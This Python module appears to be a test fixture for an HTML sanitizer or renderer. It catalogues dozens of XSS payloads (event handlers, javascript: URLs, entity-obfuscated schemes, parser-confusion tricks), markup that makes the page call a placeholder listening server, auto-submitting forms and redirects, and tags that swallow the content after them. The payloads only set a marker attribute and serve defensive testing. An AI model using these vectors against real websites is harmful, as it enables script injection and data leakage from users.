"""Markup that runs something or calls somebody, to be tried on pages; ``URL`` stands for a listening server.

What runs leaves a mark with its number on the document; what calls names itself in the path it asks for.
"""

from __future__ import annotations

RUN = "top.document.documentElement.setAttribute('data-ranNUMBER','')"

RUNS = {
    "script": f"<script>{RUN}</script>",
    "script in svg": f"<svg><script>{RUN}</script></svg>",
    "image": f'<img src="data:," onerror="{RUN}">',
    "slash": f'<svg/onload="{RUN}"></svg>',
    "details": f'<details open ontoggle="{RUN}">a</details>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "javascript frame": f'<iframe src="javascript:{RUN}"></iframe>',
    "entity in address": f'<iframe src="java&#115;cript&colon;{RUN}"></iframe>',
    "begin": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    "style event": f'<style onload="{RUN}"></style>',
    "media": f'<video src="data:," onerror="{RUN}"></video>',
    "source": f'<video><source src="data:," onerror="{RUN}"></video>',
    "capitals": f'<IMG SRC="data:," oNeRrOr="{RUN}">',
    "no quotes": f"<img src=data:, onerror={RUN}>",
    "no space": f'<img src="data:,"onerror="{RUN}">',
    "comment": f"<!--><script>{RUN}</script>-->",
    "comment bang": f"<!-- a --!><script>{RUN}</script>-->",
    "cdata in svg": f"<svg><![CDATA[<i></i>]]><image href='data:,' onerror=\"{RUN}\"></svg>",
    "noscript": f'<noscript><p title="</noscript><script>{RUN}</script>"></noscript>',
    "textarea": f'<textarea><p title="</textarea><script>{RUN}</script>"></textarea>',
    "title": f'<title><p title="</title><script>{RUN}</script>"></title>',
    "style end": f"<svg></p><style><a id=\"</style><img src='data:,' onerror={RUN}>\">",
    "foreign object": f"<svg><foreignObject><img src='data:,' onerror=\"{RUN}\"></foreignObject></svg>",
    "math": f'<math><mtext><img src="data:," onerror="{RUN}"></mtext></math>',
    "form feed": f'<img\fsrc="data:,"\fonerror="{RUN}">',
    "animation event": "<style>@keyframes k{from{color:red}}</style>"
    f'<p style="animation:k 1ms" onanimationstart="{RUN}">a</p>',
}

CALLS = {
    "image": '<img src="URL/image">',
    "srcset": '<img srcset="URL/srcset 1x">',
    "picture": '<picture><source srcset="URL/picture"><img></picture>',
    "input": '<input type="image" src="URL/input">',
    "stylesheet": '<link rel="stylesheet" href="URL/stylesheet">',
    "preload": '<link rel="preload" as="image" href="URL/preload">',
    "prefetch": '<link rel="prefetch" href="URL/prefetch">',
    "script": '<script src="URL/script"></script>',
    "iframe": '<iframe src="URL/iframe"></iframe>',
    "object": '<object data="URL/object"></object>',
    "embed": '<embed src="URL/embed">',
    "video": '<video src="URL/video" preload="auto"></video>',
    "poster": '<video poster="URL/poster"></video>',
    "audio": '<audio src="URL/audio" preload="auto"></audio>',
    "svg-image": '<svg><image href="URL/svg-image" width="9" height="9"/></svg>',
    "xlink": '<svg><image xlink:href="URL/xlink" width="9" height="9"/></svg>',
    "import": "<style>@import 'URL/import';</style>",
    "style-url": '<style>p{background:url(URL/style-url)}</style><p>a</p>',
    "attribute-url": '<p style="background:url(URL/attribute-url)">a</p>',
    "escaped-url": r'<p style="background:\75 rl(URL/escaped-url)">a</p>',
    "image-set": """<p style="background:image-set('URL/image-set' 1x)">a</p>""",
    "list": '<ul style="list-style-image:url(URL/list)"><li>a</li></ul>',
    "content": '<p style="content:url(URL/content)">a</p>',
    "background": '<table background="URL/background"><tr><td>a</td></tr></table>',
    "filter": '<svg><filter id="f"><feImage href="URL/filter"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "font": "<style>@font-face{font-family:F;src:url(URL/font)}i{font-family:F}</style><i>a</i>",
    "template": '<div><template shadowrootmode="open"><img src="URL/template"></template></div>',
    "protocol-less": '<img src="SHORT/protocol-less">',
    "base": '<base href="URL/"><img src="base">',
}  # fmt: skip

LEAVES = {  # a page of its own each: it goes away
    "refresh": '<meta http-equiv="refresh" content="0;url=URL/refresh">',
    "form": '<form id="f" action="URL/form"><input name="q"></form><img src="data:," onerror="f.submit()">',
    "link": '<a id="l" href="URL/link">a</a><img src="data:," onerror="l.click()">',
    "ping": '<a id="l" href="#x" ping="URL/ping">a</a><img src="data:," onerror="l.click()">',
    "target": '<iframe name="t"></iframe><form id="f" target="t" action="URL/target"></form>'
    '<svg onload="f.submit()"></svg>',
}  # fmt: skip

CONNECTS = '<link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL">'

SWALLOWS = {  # what would hide or hold what follows
    "comment": "<!-- ", "textarea": "<textarea>", "title": "<title>", "style": "<style>",
    "script": "<script>", "plaintext": "<plaintext>", "xmp": "<xmp>", "template": "<template>",
    "select": "<select>", "svg": "<svg>", "details": "<details>", "table": "<table>", "row": "<table><tr>",
    "close": "</main></body></html>", "cdata": "<svg><![CDATA[", "doctype": "<!doctype ", "processing": "<?",
    "quote": '<p title="', "iframe": "<iframe>", "noscript": "<noscript>", "hidden": "<div hidden>",
    "math": "<math><annotation-xml>", "dialog": "<dialog>", "frameset": "<frameset>", "button": "<button>",
    "bold": "<b><i><u>", "end": "</p></div>", "css": '<div style="display:none">',
    "over": '<div style="position:fixed;inset:0;background:red">',
}  # fmt: skip


def numbered(attacks: dict[str, str]) -> list[str]:
    """Markup of the attacks, each leaving a mark of its own."""
    return [markup.replace("NUMBER", str(number)) for number, markup in enumerate(attacks.values())]
